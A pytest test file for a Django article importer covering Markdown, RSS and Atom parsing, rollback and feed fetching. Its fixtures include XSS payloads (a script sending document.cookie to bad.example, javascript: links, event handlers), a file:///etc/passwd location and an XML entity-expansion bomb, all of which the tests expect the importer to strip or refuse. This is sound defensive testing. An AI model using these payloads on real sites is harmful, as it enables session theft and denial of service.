import http.server
import threading
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from content.models import Article
from content.services import ArticleImportError, articles_import

pytestmark = pytest.mark.django_db

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
  <title>Trail Notes</title>
  <link>https://trailnotes.example/</link>
  <description>Notes from the trail</description>
  <item>
    <title>Hot spots on the descent</title>
    <link>https://trailnotes.example/hot-spots</link>
    <description><![CDATA[<p>Seams rub on <b>long descents</b>.</p>]]></description>
    <author>ines@trailnotes.example (Ines Varga)</author>
    <category>Blisters</category>
    <category>Trail</category>
    <pubDate>Tue, 03 Mar 2026 08:00:00 GMT</pubDate>
  </item>
  <item>
    <title>Cadence without a watch</title>
    <link>https://trailnotes.example/cadence</link>
    <description>Count your steps for thirty seconds.</description>
    <pubDate>Wed, 04 Mar 2026 08:00:00 GMT</pubDate>
  </item>
</channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Physio Corner</title>
  <id>urn:uuid:physio-corner</id>
  <updated>2026-02-10T12:00:00Z</updated>
  <entry>
    <title>Tight hips and the lower back</title>
    <link href="https://physio.example/tight-hips"/>
    <id>urn:uuid:tight-hips</id>
    <updated>2026-02-10T12:00:00Z</updated>
    <author><name>Dr. Owen Marsh</name></author>
    <category term="Back pain"/>
    <summary>Why hip flexors pull on your spine.</summary>
    <content type="html">&lt;h2&gt;Hip flexors&lt;/h2&gt;
      &lt;p&gt;Long sitting shortens them.&lt;/p&gt;</content>
  </entry>
</feed>
"""

MALICIOUS_RSS = """<?xml version="1.0"?>
<rss version="2.0"><channel><title>Bad</title><link>https://bad.example/</link>
<description>x</description>
<item>
  <title>Innocent &lt;script&gt;alert(1)&lt;/script&gt;title</title>
  <link>https://bad.example/1</link>
  <description><![CDATA[
    <p onclick="steal()">Read <a href="javascript:alert(1)">this</a>.</p>
    <script>document.location='https://bad.example/?c='+document.cookie</script>
    <img src="x.png" onerror="alert(1)"><iframe src="https://bad.example/frame"></iframe>
    <div style="position:fixed;inset:0">overlay</div>
    <svg onload="alert(1)"><circle r="4"/></svg>
    <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
  ]]></description>
</item>
</channel></rss>
"""


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def markdown_folder(tmp_path):
    write(
        tmp_path,
        "back-pain.md",
        "---\ntitle: Lower back pain after runs\nslug: lower-back-pain\n"
        "summary: Posture, shoes and rest days.\nauthor: Hana Okafor\n"
        "tags: [Back pain, Posture]\nstatus: published\ndate: 2026-01-15\n"
        "hero_image: https://img.example/back.jpg\n---\n"
        "## Causes\n\nHunching over a desk all day.\n",
    )
    write(
        tmp_path,
        "guides/socks.markdown",
        "---\ntitle: Choosing running socks\ntags: socks, blisters\n---\nSkip cotton.\n",
    )
    write(tmp_path, "notes.txt", "not an article")
    return tmp_path


def test_markdown_folder_with_front_matter(markdown_folder):
    report = articles_import(locations=[str(markdown_folder)])

    assert sorted(report.created) == ["choosing-running-socks", "lower-back-pain"]
    back = Article.objects.get(slug="lower-back-pain")
    assert back.title == "Lower back pain after runs"
    assert back.author == "Hana Okafor"
    assert back.is_published and back.published_at.date().isoformat() == "2026-01-15"
    assert back.hero_image_url == "https://img.example/back.jpg"
    assert "<h2>Causes</h2>" in back.body_html
    assert sorted(back.tags.values_list("name", flat=True)) == ["Back pain", "Posture"]
    socks = Article.objects.get(slug="choosing-running-socks")
    assert socks.status == Article.Status.DRAFT
    assert sorted(socks.tags.values_list("slug", flat=True)) == ["blisters", "socks"]


def test_title_can_come_from_the_first_heading(tmp_path):
    path = write(tmp_path, "a.md", "# Heel strike explained\n\nLand under your hips.\n")

    articles_import(locations=[str(path)])

    article = Article.objects.get()
    assert article.title == "Heel strike explained"
    assert "Heel strike explained" not in article.body_html
    assert "Land under your hips." in article.body_html


def test_rss_file(tmp_path):
    feed = write(tmp_path, "trail.xml", RSS)

    report = articles_import(locations=[str(feed)], publish=True)

    assert len(report.created) == 2
    article = Article.objects.get(source_url="https://trailnotes.example/hot-spots")
    assert article.title == "Hot spots on the descent"
    assert article.is_published
    assert article.published_at.isoformat() == "2026-03-03T08:00:00+00:00"
    assert "<b>long descents</b>" in article.body_html
    assert article.summary == "Seams rub on long descents."
    assert sorted(article.tags.values_list("name", flat=True)) == ["Blisters", "Trail"]


def test_atom_file(tmp_path):
    feed = write(tmp_path, "physio.atom", ATOM)

    articles_import(locations=[str(feed)])

    article = Article.objects.get()
    assert article.title == "Tight hips and the lower back"
    assert article.source_url == "https://physio.example/tight-hips"
    assert article.author == "Dr. Owen Marsh"
    assert article.summary == "Why hip flexors pull on your spine."
    assert "<h2>Hip flexors</h2>" in article.body_html
    assert article.status == Article.Status.DRAFT
    assert list(article.tags.values_list("name", flat=True)) == ["Back pain"]


def test_malicious_feed_html_comes_out_clean(tmp_path):
    feed = write(tmp_path, "bad.xml", MALICIOUS_RSS)

    articles_import(locations=[str(feed)])

    article = Article.objects.get()
    html = article.body_html.lower()
    for bad in (
        "<script",
        "onclick",
        "onerror",
        "onload",
        "javascript:",
        "<iframe",
        "style=",
        "<svg",
        "data:",
    ):
        assert bad not in html, bad
    assert "read" in html and "overlay" in html  # the text itself survives
    assert "<script" not in article.title.lower()


def test_bad_front_matter_is_reported_and_nothing_is_written(tmp_path):
    write(tmp_path, "good.md", "---\ntitle: Fine\n---\nBody.\n")
    write(tmp_path, "broken.md", "---\ntitle: [unclosed\n---\nBody.\n")
    write(tmp_path, "status.md", "---\ntitle: Odd\nstatus: maybe\n---\nBody.\n")
    write(tmp_path, "date.md", "---\ntitle: When\ndate: next tuesday\n---\nBody.\n")

    with pytest.raises(ArticleImportError) as error:
        articles_import(locations=[str(tmp_path)])

    reasons = {Path(p.origin).name: p.reason for p in error.value.problems}
    assert set(reasons) == {"broken.md", "status.md", "date.md"}
    assert "YAML" in reasons["broken.md"]
    assert "maybe" in reasons["status.md"]
    assert "next tuesday" in reasons["date.md"]
    assert Article.objects.count() == 0


def test_invalid_article_rolls_back_the_whole_import(tmp_path):
    write(tmp_path, "a.md", "---\ntitle: Good one\n---\nBody.\n")
    write(tmp_path, "b.md", "---\ntitle: Bad image\nhero_image: not-a-url\n---\nBody.\n")

    with pytest.raises(ArticleImportError) as error:
        articles_import(locations=[str(tmp_path)])

    [problem] = error.value.problems
    assert problem.origin.endswith("b.md") and "hero_image_url" in problem.reason
    assert Article.objects.count() == 0


def test_reimport_updates_instead_of_duplicating(tmp_path, markdown_folder):
    feed = write(tmp_path, "trail.xml", RSS)
    articles_import(locations=[str(markdown_folder), str(feed)])

    write(
        markdown_folder,
        "guides/socks.markdown",
        "---\ntitle: Choosing running socks\ntags: socks\n---\nSkip cotton. Pick merino.\n",
    )
    report = articles_import(locations=[str(markdown_folder), str(feed)])

    assert Article.objects.count() == 4
    assert report.created == []
    assert report.updated == ["choosing-running-socks"]
    assert len(report.unchanged) == 3
    socks = Article.objects.get(slug="choosing-running-socks")
    assert "Pick merino." in socks.body_html
    assert list(socks.tags.values_list("slug", flat=True)) == ["socks"]


def test_reimport_keeps_a_published_article_published(tmp_path):
    feed = write(tmp_path, "trail.xml", RSS)
    articles_import(locations=[str(feed)], publish=True)

    articles_import(locations=[str(feed)])

    assert Article.objects.filter(status=Article.Status.PUBLISHED).count() == 2


def test_dry_run_writes_nothing(markdown_folder):
    report = articles_import(locations=[str(markdown_folder)], dry_run=True)

    assert len(report.created) == 2
    assert Article.objects.count() == 0


def test_command_reports_every_problem_and_exits_non_zero(tmp_path, capsys):
    write(tmp_path, "ok.md", "---\ntitle: Fine\n---\nBody.\n")
    write(tmp_path, "notitle.md", "no title anywhere\n")

    with pytest.raises(CommandError) as error:
        call_command("import_articles", str(tmp_path), str(tmp_path / "missing.xml"))

    err = capsys.readouterr().err
    assert "notitle.md: no title" in err
    assert "missing.xml: no such file or folder" in err
    assert "nothing" in str(error.value) or "no article" in str(error.value)
    assert Article.objects.count() == 0


def test_command_imports_and_summarises(markdown_folder, capsys):
    call_command("import_articles", str(markdown_folder), "--publish")

    out = capsys.readouterr().out
    assert "2 created, 0 updated, 0 unchanged" in out
    assert Article.objects.filter(status=Article.Status.PUBLISHED).count() == 2


def test_non_feed_file_and_foreign_scheme_are_refused(tmp_path):
    junk = write(tmp_path, "junk.xml", "this is not xml at all")

    with pytest.raises(ArticleImportError) as error:
        articles_import(locations=[str(junk), "ftp://feeds.example/rss", "file:///etc/passwd"])

    reasons = [p.reason for p in error.value.problems]
    assert "not an RSS or Atom feed" in reasons[0]
    assert "only http and https" in reasons[1] and "only http and https" in reasons[2]


def test_entity_expansion_is_refused(tmp_path):
    bomb = write(
        tmp_path,
        "bomb.xml",
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<rss version="2.0"><channel><title>&b;</title><item><title>&b;</title>'
        "</item></channel></rss>",
    )

    with pytest.raises(ArticleImportError) as error:
        articles_import(locations=[str(bomb)])

    assert "entities" in error.value.problems[0].reason
    assert Article.objects.count() == 0


@pytest.fixture
def feed_server():
    """A real HTTP server on localhost serving RSS at /feed.xml and 404 elsewhere."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path == "/feed.xml":
                body = RSS.encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/rss+xml")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            else:
                self.send_error(404)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_feed_from_an_http_url(feed_server):
    report = articles_import(locations=[f"{feed_server}/feed.xml"])

    assert len(report.created) == 2


def test_http_errors_are_reported(feed_server):
    with pytest.raises(ArticleImportError) as error:
        articles_import(locations=[f"{feed_server}/gone.xml"])

    assert "404" in error.value.problems[0].reason


def test_oversize_feed_is_refused(feed_server, monkeypatch):
    monkeypatch.setattr("content.importing.fetch.MAX_FEED_BYTES", 100)

    with pytest.raises(ArticleImportError) as error:
        articles_import(locations=[f"{feed_server}/feed.xml"])

    assert "refused" in error.value.problems[0].reason
